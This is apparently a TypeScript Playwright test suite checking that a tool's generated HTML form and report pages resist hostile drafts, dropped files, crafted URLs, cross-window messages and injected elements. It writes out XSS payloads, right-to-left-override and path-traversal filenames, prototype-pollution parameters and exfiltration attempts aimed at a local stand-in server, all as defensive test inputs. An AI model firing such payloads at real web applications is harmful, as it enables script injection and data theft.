import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readText } from '../support/catalogue.js';
import { hostile } from '../support/hostilePlan.js';
import { runRasoat } from '../support/runRasoat.js';

// The pages as somebody finds them who opens them beside files of others, by addresses of others, and with files that others have named.

const folder = mkdtempSync(join(tmpdir(), 'rasoat-attacks-'));
const plan = readText('examples/plans/hoi-nong-dan-xa-an-thinh.yaml');
let browser: Browser;
/** What would be asked of a machine of somebody else. */
const reached: string[] = [];
const server = createServer((request, response) => {
  reached.push(String(request.url));
  response.end();
});
const elsewhere = () => `127.0.0.1:${(server.address() as AddressInfo).port}`;

beforeAll(async () => {
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  await runRasoat(['page', 'form.html'], { cwd: folder });
  writeFileSync(join(folder, 'a.yaml'), plan);
  writeFileSync(join(folder, 'b.yaml'), plan.replace(/tên: .*/, `tên: ${JSON.stringify(hostile)}`));
  await runRasoat(['check', 'a.yaml', 'b.yaml', '-o', 'html:report.html'], { cwd: folder });
  const executablePath = execFileSync('which', ['chromium'], { encoding: 'utf8' }).trim();
  browser = await chromium.launch({ executablePath, args: ['--no-sandbox'] });
});
afterAll(async () => {
  await browser?.close();
  server.close();
  rmSync(folder, { recursive: true, force: true });
});

async function open(file: 'form' | 'report', address = '', context?: BrowserContext) {
  const page = await (context ?? browser).newPage();
  const said: string[] = [];
  page.on('request', (request) => /^(?:file|blob):/.test(request.url()) || said.push(request.url()));
  page.on('console', (message) => said.push(message.text()));
  page.on('pageerror', (error) => said.push(String(error)));
  page.on('dialog', (dialog) => {
    said.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.goto(`file://${folder}/${file}.html${address}`);
  await page.waitForSelector(file === 'form' ? '#start' : '.found');
  return { page, said };
}

/** Nothing of the data has become an element, and nothing hidden stands in what is read. */
async function isInert(page: Page): Promise<void> {
  expect(await page.locator('img, iframe, object, embed, a[href^="javascript"]').count()).toBe(0);
  expect(await page.evaluate('document.body.innerText + document.title')).not.toMatch(/[\u202a-\u202e]|\p{Cc}\[/u);
}

const keeping = async (value: string): Promise<BrowserContext> => {
  const context = await browser.newContext();
  await context.addInitScript(`localStorage.setItem('rasoat-draft', ${JSON.stringify(value)})`);
  return context;
};

describe('what another page has kept for files of this computer', () => {
  const draft = (more: object) => JSON.stringify({ name: 'a.yaml', text: plan, when: '9:00', ...more });
  test.each([
    ['', '{', 'null', '[]', '1', '"x"', '{}', 'undefined'],
    [draft({ text: 5 }), draft({ name: null }), draft({ when: {} }), draft({ text: ['a'] })],
    [draft({ text: 'x'.repeat(1024 * 1024 + 1) }), draft({ when: 'x'.repeat(1000) })],
  ])('is no draft where it can be none: %j …', async (...values) => {
    for (const value of values) {
      const context = await keeping(value);
      const { page, said } = await open('form', '', context);
      expect(await page.getByRole('button', { name: 'Viết tiếp' }).count()).toBe(0);
      expect(said).toEqual([]);
      await context.close();
    }
  });

  test('is shown and opened as text alone, and saved as nothing that a program runs', async () => {
    const text = `đơn vị:\n  tên: ${JSON.stringify(hostile)}\n  loại: <img src=x onerror=alert(1)>\n`;
    const context = await keeping(draft({ name: `../${hostile}\u202elmay.hta`, text, when: '<b>\u202e9:00</b>' }));
    const { page, said } = await open('form', '', context);
    await isInert(page);
    await page.getByRole('button', { name: 'Viết tiếp' }).click();
    await page.waitForSelector('#summary');
    await isInert(page);
    await page.evaluate('window.showSaveFilePicker = undefined');
    const saving = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Lưu tệp' }).click();
    expect((await saving).suggestedFilename()).toMatch(/\.yaml$/);
    await isInert(page);
    expect(said).toEqual([]);
    await context.close();
  });
});

describe('a file that is dropped', () => {
  test.each(['<img src=x onerror=alert(1)>', `a\u202elmay.`, 'a"onmouseover="alert(1)', hostile.replaceAll('/', '')])(
    'called %j is a text',
    async (name) => {
      const { page, said } = await open('form');
      const drop = (file: string, content: string) =>
        page.evaluate(`{
          const data = new DataTransfer();
          data.items.add(new File([${JSON.stringify(content)}], ${JSON.stringify(file)}));
          dispatchEvent(new DragEvent('drop', { dataTransfer: data }));
        }`);
      for (const [ending, content] of [
        ['.pdf', '%PDF-1.7'],
        ['.docx', 'PK'],
        ['.xlsx', 'PK'],
        ['.yaml', `- ${hostile}`],
        ['.yaml', plan],
      ] as const) {
        await drop(name + ending, content);
        await expect.poll(() => page.evaluate('document.body.innerText.length')).toBeGreaterThan(100);
        await isInert(page);
      }
      await page.waitForSelector('#summary');
      await isInert(page);
      expect(said).toEqual([]);
      await page.close();
    },
  );
});

describe('an address that somebody has sent', () => {
  const hashes = [
    '#<img src=x onerror=alert(1)>',
    '#javascript:alert(1)',
    '?x=<script>alert(1)</script>#?search=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E%E2%80%AE',
    '#?__proto__=x&constructor=y&toString=z&search=a',
    '#?%&=&search=%E0%A4%A&verdict=%00',
    '#unit-99999999999999999999999',
    '#unit-1-__proto__',
    '#?requirement=9.z&status=Q&since=x&parent=constructor',
    `#?search=${'a'.repeat(200_000)}`,
  ];
  test.each(['form', 'report'] as const)('asks nothing of the page that it cannot do: %s', async (file) => {
    for (const hash of hashes) {
      const { page, said } = await open(file, hash);
      await isInert(page);
      expect([hash.slice(0, 50), said]).toEqual([hash.slice(0, 50), []]);
      expect(await page.evaluate('({}).search')).toBeUndefined();
      await page.close();
    }
  });
});

describe.each(['form', 'report'] as const)('the page %s', (file) => {
  test('hears no messages of others, nor in a frame or a window of theirs', async () => {
    writeFileSync(
      join(folder, 'evil.html'),
      `<iframe src="${file}.html"></iframe><script>
      const own = open('${file}.html');
      const all = ['x', { type: 'open', text: 'x' }, { name: 'open', args: ['a', 'b'] }, null, [1], '<img src=x>'];
      setInterval(() => all.forEach((one) => { own.postMessage(one, '*'); frames[0].postMessage(one, '*'); }), 20);
      </script>`,
    );
    const context = await browser.newContext();
    const page = await context.newPage();
    const opening = context.waitForEvent('page');
    await page.goto(`file://${folder}/evil.html`);
    const opened = await opening;
    await opened.waitForSelector(file === 'form' ? '#start' : '.found');
    const before = await opened.evaluate('document.body.innerHTML');
    await opened.evaluate('new Promise((done) => setTimeout(done, 100))');
    expect(await opened.evaluate('document.body.innerHTML')).toBe(before);
    await isInert(opened);
    await context.close();
  });

  test('loads and runs nothing that is put into it, and sends nothing away', async () => {
    const { page } = await open(file);
    const refused: string[] = await page.evaluate(`(async () => {
      const refused = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
      const put = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
      put('script', { textContent: 'window.ran = 1' });
      put('script', { src: 'http://${elsewhere()}/x.js' });
      put('img', { src: 'http://${elsewhere()}/x.png' });
      put('iframe', { src: 'http://${elsewhere()}/' });
      put('div', { innerHTML: '<b onclick="window.ran = 2">x</b>' }); document.querySelector('b[onclick]').click();
      put('link', { rel: 'stylesheet', href: 'http://${elsewhere()}/x.css' });
      put('base', { href: 'http://${elsewhere()}/' });
      await fetch('http://${elsewhere()}/').catch(() => {});
      try { new WebSocket('ws://${elsewhere()}/'); } catch {}
      navigator.sendBeacon('http://${elsewhere()}/');
      const form = Object.assign(document.createElement('form'), { action: 'http://${elsewhere()}/', method: 'post' });
      document.body.append(form); form.submit();
      while (!refused.includes('form-action')) await new Promise((done) => setTimeout(done, 20));
      return [...new Set(refused)].sort();
    })()`);
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(refused.filter((one) => one !== 'base-uri')).toEqual(
      expect.arrayContaining([
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',

        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ]),
    );
    expect(reached).toEqual([]);
    await page.close();
  });
});
